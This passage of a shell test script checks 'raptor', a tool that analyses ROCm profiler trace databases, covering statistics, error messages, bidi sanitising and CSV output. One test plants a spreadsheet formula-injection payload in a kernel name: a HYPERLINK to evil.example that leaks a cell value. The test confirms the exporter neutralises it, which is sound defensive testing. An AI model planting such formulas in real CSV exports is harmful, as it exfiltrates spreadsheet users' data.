check "raptor stats without --format: says so" grep -q "^raptor: stats needs --format kernel-stats" "$TESTDIR/stderr"
check_rc "raptor report without FILE: exit 2" 2 raptor report
printf 'not a database at all, just text\n' >junk.rpd
check_rc "not SQLite exits 1" 1 raptor junk.rpd
check_one_line "not SQLite: one line"
check_rc "missing file exits 1" 1 raptor nosuch.rpd
check_one_line "missing file: one line"

# hand-made traces: the reference's own unit-test data (time zero = 1000)
mock() { # mock OUT "gpu start end name" lines on stdin
  cp base.rpd "$1"
  {
    echo "BEGIN;"
    echo "CREATE TEMP TABLE t AS SELECT * FROM rocpd_op WHERE opType_id IN (SELECT id FROM rocpd_string WHERE string = 'KernelExecution') LIMIT 1;"
    echo "CREATE TEMP TABLE a AS SELECT * FROM rocpd_api LIMIT 1;"
    echo "DELETE FROM rocpd_api_ops; DELETE FROM rocpd_op; DELETE FROM rocpd_api;"
    echo "UPDATE a SET start = 1000, \"end\" = 1000000; INSERT INTO rocpd_api SELECT * FROM a;"
    _k=1
    while read -r _g _s _e _n; do
      echo "INSERT INTO rocpd_string(string) SELECT 'mock$_n' WHERE NOT EXISTS (SELECT 1 FROM rocpd_string WHERE string = 'mock$_n');"
      echo "UPDATE t SET id = $_k, gpuId = $_g, start = $_s + 1000, \"end\" = $_e + 1000, description_id = (SELECT min(id) FROM rocpd_string WHERE string = 'mock$_n');"
      echo "INSERT INTO rocpd_op SELECT * FROM t;"
      _k=$((_k + 1))
    done
    echo "COMMIT;"
  } >"$1.sql"
  sqlite3 "$1" <"$1.sql"
}
mock multi.rpd <<'X'
0 0 9 A
0 10 16 B
0 20 25 C
1 2 5 AA
1 6 20 B
1 8 9 C
X
raptor multi.rpd --save --gpu-summary >/dev/null 2>&1
check_eq "multi-GPU: pregap per GPU (reference test_multi_gpu)" "|1|4||1|0" "$(q multi.rpd "SELECT group_concat(coalesce(pregap_ns, ''), '|') FROM (SELECT pregap_ns FROM ext_raptor_op ORDER BY gpuId, sequenceId)")"
check_eq "multi-GPU: durations and sequence" "9:1 6:2 5:3 3:1 14:2 1:3" "$(q multi.rpd "SELECT group_concat(duration_ns || ':' || sequenceId, ' ') FROM (SELECT * FROM ext_raptor_op ORDER BY gpuId, sequenceId)")"
check_eq "multi-GPU: GPU 0 idle 20%" "20.0" "$(q multi.rpd "SELECT idle_pct FROM ext_raptor_gpu WHERE gpuId = 0")"
mock zs.rpd <<'X'
1 0 900 A
1 1000 2500 B
1 2000 2900 A
1 4000 5700 B
1 5000 6000 A
1 8000 9600 B
1 10000 17777 C
1 20000 22000 D
1 25000 29000 D
X
raptor zs.rpd --save --kernelseq-len 0 >/dev/null 2>&1
check_eq "zscore per kernel (reference test_calc_zscore)" "-0.707 -1.225 -0.707 1.225 1.414 0.0 0.0 -1.0 1.0" \
  "$(q zs.rpd "SELECT group_concat(round(duration_zscore, 3), ' ') FROM (SELECT * FROM ext_raptor_op ORDER BY sequenceId)")"
check_eq "kernelseq stats: A mean/min/std, VarSum" "933.333|900.0|57.735|100" \
  "$(q zs.rpd "SELECT round(dur_mean_ns, 3) || '|' || dur_min_ns || '|' || round(dur_std_ns, 3) || '|' || CAST(varsum_ns AS INT) FROM ext_raptor_kernelseq WHERE kernel = 'mockA'")"
{ i=0; while [ $i -lt 10 ]; do echo "1 0 10000 AAA"; i=$((i + 1)); done; echo "1 0 10 AAA"; } | mock out.rpd
raptor out.rpd --save --kernelseq-len 0 -z 3 >/dev/null 2>&1
check_eq "outlier found (reference test_find_outliers)" "10|1|10|10000.0" \
  "$(q out.rpd "SELECT (SELECT duration_ns FROM ext_raptor_op WHERE outlier) || '|' || outliers || '|' || calls || '|' || dur_mean_ns FROM ext_raptor_kernelseq WHERE kernel = 'mockAAA'")"
cp base.rpd inst-bad.rpd
check_rc "--save with a bad -i exits 1" 1 raptor inst-bad.rpd --save -i 100000
same_file "--save with a bad -i leaves the trace untouched" base.rpd inst-bad.rpd

# -z <= 1: a sequence whose instances are all outliers has no row (the
# reference drops it); no VarSum from a NaN, no calls = 0 row
ZKEYS="WITH k AS (SELECT kernel || '|' || coalesce(lag(kernel, 1) OVER w, '-') || '|'
  || coalesce(lag(kernel, 2) OVER w, '-') AS key, sequenceId, outlier FROM ext_raptor_op
  WINDOW w AS (ORDER BY gpuId, sequenceId))"
for z in 1 0.5; do
  saved "z$z" base.rpd -z $z >/dev/null || notok "-z $z: raptor --save" "$(cat "z$z.err")"
  check_eq "-z $z: no kernelseq row with calls = 0" 0 \
    "$(q "z$z.rpd" "SELECT count(*) FROM ext_raptor_kernelseq WHERE calls = 0")"
  check_eq "-z $z: every VarSum is NULL or 0..dur_sum" 0 \
    "$(q "z$z.rpd" "SELECT count(*) FROM ext_raptor_kernelseq WHERE varsum_ns < 0 OR varsum_ns > dur_sum_ns")"
  check_eq "-z $z: rows = sequences with a kept instance" \
    "$(q "z$z.rpd" "$ZKEYS SELECT count(DISTINCT key) FROM k WHERE outlier = 0")" \
    "$(q "z$z.rpd" "SELECT count(*) FROM ext_raptor_kernelseq WHERE kernel NOT LIKE 'GAP %' OR kernel_1 IS NOT NULL")"
done
check_eq "-z 1: the trace has sequences whose every instance is an outlier" 1 \
  "$(q z1.rpd "$ZKEYS SELECT count(*) > 0 FROM (SELECT key FROM k GROUP BY key HAVING min(outlier) = 1)")"

# -q: the tables only (no Timestamps block, no progress line)
check_eq "-q: no Timestamps block, the tables as without -q" \
  "$(raptor base.rpd -c -v | sed '/Timestamps/,/roi_dur/d')" "$(raptor base.rpd -c -v -q)"
check_eq "-q: Categories still there" 1 "$(raptor base.rpd -c -q | grep -c '^Categories:')"

# bidi controls in a kernel name (RLO U+202E, LRI U+2066) would reorder the
# columns of a terminal table: the table shows U+FFFD, the CSV keeps the name
cp base.rpd bidi.rpd
sqlite3 bidi.rpd "UPDATE rocpd_string SET string = 'Cijk_' || char(0x202E) || 'lave' || char(0x2066) || '_x' WHERE id = (SELECT description_id FROM rocpd_op O JOIN rocpd_string T ON T.id = O.opType_id WHERE T.string = 'KernelExecution' GROUP BY description_id ORDER BY count(*) DESC, description_id LIMIT 1)"
raptor bidi.rpd -k >bidi.txt 2>/dev/null
check_eq "bidi: -k table has no bidi control, the name with U+FFFD" "0|1" \
  "$(grep -c "$(printf '\342\200\256\|\342\201\246')" bidi.txt)|$(grep -c "$(printf 'Cijk_\357\277\275lave\357\277\275_x')" bidi.txt | sed 's/^[1-9][0-9]*$/1/')"
check "bidi: CSV keeps the name" grep -q "$(printf 'Cijk_\342\200\256lave')" "$(raptor bidi.rpd -k --format csv >bidi.csv 2>/dev/null; echo bidi.csv)"

# CSV formula injection: a kernel named =HYPERLINK(...) is a live link in a
# spreadsheet; every CSV raptor writes prefixes it with ', numbers stay
# numbers, --csv-raw writes the name as it is
EVIL='=HYPERLINK("http://evil.example/?leak="&B2,"click")'
cp base.rpd evil.rpd
sqlite3 evil.rpd "UPDATE rocpd_string SET string = '$(printf '%s' "$EVIL" | sed "s/'/''/g")' WHERE id = (SELECT description_id FROM rocpd_op O JOIN rocpd_string T ON T.id = O.opType_id WHERE T.string = 'KernelExecution' GROUP BY description_id ORDER BY count(*) DESC, description_id LIMIT 1)"
SAFE="\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\""
RAW="\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\""
raptor evil.rpd -k --format csv >evil_k.csv 2>/dev/null
check "formula: -k --format csv neutralises the name" grep -qF ",$SAFE," evil_k.csv
check_eq "formula: -k --format csv has no raw formula cell" 0 "$(grep -cF ",$RAW" evil_k.csv)"
raptor evil.rpd -k --format csv --csv-raw >evil_raw.csv 2>/dev/null
check "formula: --csv-raw writes it as it is" grep -qF ",$RAW," evil_raw.csv
check_eq "formula: only the prefix differs" "$(sed "s/\"'=/\"=/g" evil_k.csv | cksum)" "$(cksum <evil_raw.csv)"
check_rc "formula: --report --csv-dir exit 0" 0 raptor --report evil.rpd --csv-dir evil_rep -q
check "formula: report kernel_summary neutralised" grep -qF "$SAFE," evil_rep/kernel_summary.csv
check_eq "formula: report has no raw formula cell" 0 "$(cat evil_rep/*.csv | grep -c '^"=\|,"=')"
raptor evil.rpd --format kernel-stats >evil_ks.csv 2>/dev/null
check "formula: --format kernel-stats neutralised" grep -qF "$SAFE," evil_ks.csv
raptor evil.rpd -c -v --gpu-summary -k --csv-dir evil_dir >/dev/null 2>&1
check_eq "formula: --csv-dir has no raw formula cell, negative numbers kept" "0|1" \
  "$(cat evil_dir/*.csv | grep -c '^"=\|,"=\|,=')|$(cat evil_dir/*.csv | grep -c ',-[0-9]' | sed 's/^[1-9][0-9]*$/1/')"

# CSV is one table per stream (issue 11.7): several tables need --csv-dir
check_rc "--format csv with the default three tables: usage error" 2 raptor base.rpd --format csv
check "... says why" grep -q "one table per stream and 3 are selected" "$TESTDIR/stderr"
check_rc "--format csv -k -c: usage error" 2 raptor base.rpd -k -c --format csv
check_rc "--csv-dir: one file per table" 0 raptor base.rpd -k -c -v --gpu-summary -o --csv-dir cdir
check_eq "--csv-dir: the five files" "categories.csv gpus.csv kernelseq.csv op_trace.csv variability.csv" \
  "$(ls cdir | tr '\n' ' ' | sed 's/ $//')"
check_eq "--csv-dir: nothing on stdout" "" "$(cat "$TESTDIR/stdout")"
check_eq "--csv-dir: kernelseq.csv = -k --format csv" "$(raptor base.rpd -k --format csv | cksum)" "$(cksum <cdir/kernelseq.csv)"
check_eq "--csv-dir: categories.csv = -c --format csv" "$(raptor base.rpd -c --format csv | cksum)" "$(cksum <cdir/categories.csv)"
check_eq "--csv-dir: op_trace.csv has a row per op" "$(q base-d.rpd "SELECT count(*) + 1 FROM ext_raptor_op")" "$(grep -c '' cdir/op_trace.csv)"
check "--csv-dir: every file reads as one CSV table" python3 -c "
import csv, glob
for f in glob.glob('cdir/*.csv'):
    rows = list(csv.reader(open(f, newline='')))
    assert len(rows) > 1 and all(len(r) == len(rows[0]) for r in rows), f"
check_rc "--csv-dir over a file: exit 1" 1 raptor base.rpd -k --csv-dir base.rpd

# time values beyond +-2^63 ns are refused with one line (and the usage
# hint), never wrapped (docs/time.md)
for t in "--roi-start=-1e999ms" "--roi-end=+1e999ms" "--roi-start=1e30" "--roi-start=99999999999999999999" "--roi-start=-9223372036854775808"; do
  check_rc "extreme ROI $t: exit 2" 2 raptor base.rpd -c "$t"
  check_eq "extreme ROI $t: one error line (and the usage hint)" "1 1" \
    "$(grep -c "out of range (beyond 2^63 ns)" "$TESTDIR/stderr") $(grep -vc '^Try ' "$TESTDIR/stderr")"
done

# The trace check: rocpd_op by its own scan before the work, rocpd_api
# folded into the time-zero scan (no scan of its own).  Whatever the ROI,
# a bad rocpd_api row gives the check's one line (never an ROI message
# from the engine), and with bad rows in both tables rocpd_api's line wins,
# as rpd_check_trace words it.
cp base.rpd badapi.rpd
sqlite3 badapi.rpd "UPDATE rocpd_api SET start = 'soon' WHERE id % 97 = 5"
nbad=$(q badapi.rpd "SELECT count(*) FROM rocpd_api WHERE typeof(start) != 'integer'")
for roi in "" "--roi-start=1e12s" "--roi-start attn_fwd" "--roi-end=-1ns --roi-start=-2ns"; do
  # shellcheck disable=SC2086
  check_rc "bad rocpd_api rows, ROI [$roi]: exit 1" 1 raptor badapi.rpd -k $roi
  check_eq "bad rocpd_api rows, ROI [$roi]: the check's one line" \
    "raptor: cannot read 'badapi.rpd': rocpd_api.start: $nbad rows are not integers (text, real, blob or null); fix or delete those rows" \
    "$(cat "$TESTDIR/stderr")"
done
check_rc "bad rocpd_api rows, --save: exit 1" 1 raptor badapi.rpd --save
check_eq "bad rocpd_api rows, --save: no ext_raptor table" 0 \
  "$(q badapi.rpd "SELECT count(*) FROM sqlite_master WHERE name LIKE 'ext_raptor%'")"
cp badapi.rpd badboth.rpd
sqlite3 badboth.rpd "UPDATE rocpd_op SET start = 'later' WHERE id % 89 = 3"
check_rc "bad rows in both tables: exit 1" 1 raptor badboth.rpd -k
check_eq "bad rows in both tables: rocpd_api's line, as rpd_check_trace" \
  "raptor: cannot read 'badboth.rpd': rocpd_api.start: $nbad rows are not integers (text, real, blob or null); fix or delete those rows" \
  "$(cat "$TESTDIR/stderr")"
cp base.rpd badop.rpd
sqlite3 badop.rpd "UPDATE rocpd_op SET start = 'later' WHERE id % 89 = 3"
nbadop=$(q badop.rpd "SELECT count(*) FROM rocpd_op WHERE typeof(start) != 'integer'")
check_rc "bad rocpd_op rows, an ROI past the trace: exit 1" 1 raptor badop.rpd -k --roi-start=1000s
check_eq "bad rocpd_op rows, an ROI past the trace: the check's one line, not the ROI's" \
  "raptor: cannot read 'badop.rpd': rocpd_op.start: $nbadop rows are not integers (text, real, blob or null); fix or delete those rows" \
  "$(cat "$TESTDIR/stderr")"

# kernel names in the text table: cut in the middle where the rows differ
# (--display-cols, 60), so mytrace's GEMMs whose heads and tails are the
# same read differently; --format csv keeps them whole
if need_shared "$TRACES/mytrace.rpd.gz"; then
  gzip -dc "$TRACES/mytrace.rpd.gz" >mycut.rpd
  raptor mycut.rpd -q -k --kernelseq-len 1 --display-rows 12 2>/dev/null | sed -n '/^Top Kernels:/,$p' | sed -n '4,15p' | cut -c1-60 >cut.txt
  check_eq "mytrace -k: 12 rows, 12 different cut names" "12|12" "$(wc -l <cut.txt | tr -d ' ')|$(sort -u cut.txt | wc -l | tr -d ' ')"
  check "mytrace -k: a GEMM's tile size in view" grep -q 'MT64x32x256_' cut.txt
fi

# --width N: text tables at most N columns wide (names cut first, never
# below 24, then the least needed columns left out and named in a note);
# no --width and stdout not a terminal: today's layout, as --width 0
raptor base.rpd -k -c >w-default.txt 2>/dev/null
raptor base.rpd -k -c --width 0 >w-0.txt 2>/dev/null
check "--width 0 = the layout when stdout is not a terminal" cmp -s w-default.txt w-0.txt
check_rc "--width 90" 0 raptor base.rpd -k -c --width 90
check_eq "--width 90: no line wider than 90" 0 "$(awk 'length($0) > 90' stdout | wc -l | tr -d ' ')"
check "--width 90: Top Kernels keeps PctTotal, names the columns left out" sh -c \
  "grep -q '^Kernel Sequence .*PctTotal' '$TESTDIR/stdout' && grep -q '^(.* columns left out to fit --width 90; --width 0 shows them)$' '$TESTDIR/stdout'"
check_rc "--width 90 --format csv: full names, every column" 0 raptor base.rpd -k --width 90 --format csv
check_eq "--width 90 --format csv: the csv of --width 0" "$(raptor base.rpd -k --format csv 2>/dev/null | md5sum)" \
  "$(md5sum <stdout)"
check_rc "bad --width" 2 raptor base.rpd --width -3
if need_shared "$TRACES/mytrace.rpd.gz"; then
  raptor mycut.rpd -q -k --kernelseq-len 0 --width 100 2>/dev/null | sed -n '/^Top Kernels:/,$p' >w100.txt
  check_eq "mytrace --width 100: no line wider than 100" 0 "$(awk 'length($0) > 100' w100.txt | wc -l | tr -d ' ')"
  check_eq "mytrace --width 100: its GEMM rows read as different names" "7|7" \
    "$(grep -c 'GEMM *$' w100.txt)|$(grep 'GEMM *$' w100.txt | cut -c1-35 | sort -u | wc -l | tr -d ' ')"
  raptor mycut.rpd -q -k --width 100 2>/dev/null | sed -n '/^Top Kernels:/,$p' | sed -n '4,81p' | grep -v '^(' | cut -c1-35 >w100s.txt
  check_eq "mytrace --width 100, sequences: 78 rows, 78 different cut names" "78|78" \
    "$(wc -l <w100s.txt | tr -d ' ')|$(sort -u w100s.txt | wc -l | tr -d ' ')"
fi
